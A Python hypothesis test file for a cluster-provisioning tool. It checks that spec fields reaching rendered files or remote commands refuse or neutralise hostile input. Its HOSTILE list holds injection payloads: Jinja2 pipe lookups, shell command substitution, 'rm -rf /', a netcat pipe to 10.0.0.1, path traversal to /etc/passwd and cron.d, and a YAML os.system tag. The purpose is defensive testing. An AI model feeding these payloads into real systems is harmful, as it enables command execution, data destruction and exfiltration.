"""Hostile specs, generated (hypothesis): shell, Jinja2, YAML and path syntax, newlines, NUL, quotes, very long
and non-ASCII text put into the fields that reach a rendered file or a remote command (names, addresses, users,
descriptions, partition and interface names, paths, URLs, the timer's calendar). Each spec is either refused with
every problem located (FILE:LINE:COL, a spec field path, a message; never a traceback), or accepted and rendered
with every file inside the chosen directory, every YAML file readable, and no template or line break from the
input in any of them. A spec larger than the limit is refused before it is read."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ibprov.clusterspec import load_spec, load_spec_text
from ibprov.clusterspec.positions import MAX_BYTES
from ibprov.errors import Problem, SpecError
from ibprov.render import render_files, write_tree

EXAMPLES = Path(__file__).resolve().parents[3] / "examples"
BASE = yaml.safe_load((EXAMPLES / "qos-partitions.yaml").read_text())
UFM = yaml.safe_load((EXAMPLES / "ufm.yaml").read_text())

# where a value reaches a rendered file (inventory, role variables, OpenSM's files) or a remote command
FIELDS: list[tuple[str, tuple[Any, ...]]] = [
    ("base", ("cluster", "name")),
    ("base", ("nodes", 0, "name")),
    ("base", ("nodes", 0, "address")),
    ("base", ("nodes", 0, "hcas", 0, "device")),
    ("base", ("nodes", 0, "groups", 0)),
    ("base", ("cluster", "ssh_user")),
    ("base", ("switches", 0, "name")),
    ("base", ("switches", 0, "description")),
    ("base", ("partitions", 0, "name")),
    ("base", ("monitoring", "verify_timer", "on_calendar")),
    ("base", ("monitoring", "verify_timer", "history_dir")),
    ("base", ("monitoring", "verify_timer", "textfile_dir")),
    ("base", ("monitoring", "verify_timer", "wheelhouse")),
    ("ufm", ("subnet_manager", "ufm", "url")),
    ("ufm", ("subnet_manager", "ufm", "ca_file")),
    ("ufm", ("subnet_manager", "ufm", "username")),
    ("ufm", ("partitions", 0, "name")),
]
HOSTILE = [
    "{{ lookup('pipe', 'id') }}",
    "{% for x in range(9) %}x{% endfor %}",
    "$(touch /tmp/ibprov-pwned)",
    "`id`",
    "a; rm -rf /",
    "a && reboot",
    "a | nc 10.0.0.1 9",
    "../../etc/cron.d/evil",
    "/var/lib/../../etc/passwd",
    "line1\nline2: x",
    "a\x00b",
    '"quoted"',
    "'single'",
    "*alias",
    "&anchor x",
    "!!python/object/apply:os.system ['id']",
    "# a comment",
    "x" * 5000,
    "nœud-é",
    "-rf",
    "",
]
NEVER_WRITTEN = ("{{", "{%", "{#", "\x00")  # Jinja2 in a rendered file, or a NUL: never from the input


def located(problem: Problem) -> bool:
    return problem.file == "hostile.yaml" and problem.line >= 1 and problem.column >= 1 and bool(problem.message)


def spec_with(which: str, path: tuple[Any, ...], value: str) -> str:
    data = copy.deepcopy(BASE if which == "base" else UFM)
    target = data
    for key in path[:-1]:
        if isinstance(target, dict) and key not in target:
            target[key] = {}
        target = target[key]
    target[path[-1]] = value
    return yaml.safe_dump(data, sort_keys=False, allow_unicode=True, width=10_000)


values = st.one_of(
    st.sampled_from(HOSTILE),
    st.builds(lambda a, b, c: a + b + c, st.text(max_size=8), st.sampled_from(HOSTILE), st.text(max_size=8)),
    st.text(max_size=80),
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(field=st.sampled_from(FIELDS), value=values)
def test_a_hostile_value_is_refused_where_it_stands_or_rendered_harmlessly(
    tmp_path_factory: pytest.TempPathFactory, field: tuple[str, tuple[Any, ...]], value: str
) -> None:
    which, path = field
    text = spec_with(which, path, value)
    try:
        loaded = load_spec_text(text, "hostile.yaml")
    except SpecError as refused:
        problems = refused.problems
    else:
        problems = []
    if problems:
        assert all(located(p) for p in problems), problems
        return
    assert not any(marker in value for marker in (*NEVER_WRITTEN, "\n")), f"{path}: {value!r} accepted"
    out = tmp_path_factory.mktemp("rendered")
    try:
        files = render_files(loaded, synthetic_guids=True).files
    except SpecError as refused:
        problems = refused.problems
    if problems:
        assert all(located(p) for p in problems), problems  # refused at render time, located
        return
    for name in files:
        assert (out / name).resolve().is_relative_to(out.resolve()), name
    write_tree(out, files)
    for written in out.rglob("*"):
        if not written.is_file():
            continue
        content = written.read_text(encoding="utf-8", errors="replace")
        if written.suffix in (".yml", ".yaml"):
            yaml.safe_load(content)  # readable: no value broke out of its quoting
        if value and len(value) > 2 and value in content:
            assert not any(m in value for m in NEVER_WRITTEN), f"{written}: {value!r}"


def test_a_spec_larger_than_the_limit_is_refused_before_it_is_read(tmp_path: Path) -> None:
    huge = tmp_path / "huge.yaml"
    with huge.open("wb") as out:
        out.truncate(MAX_BYTES + 1)  # sparse: nothing is written, nothing would be read
    with pytest.raises(SpecError) as refused:
        load_spec(huge)
    (problem,) = refused.value.problems
    assert (problem.file, problem.line, problem.column) == (str(huge), 1, 1)
    assert f"larger than {MAX_BYTES // (1024 * 1024)} MiB" in problem.message
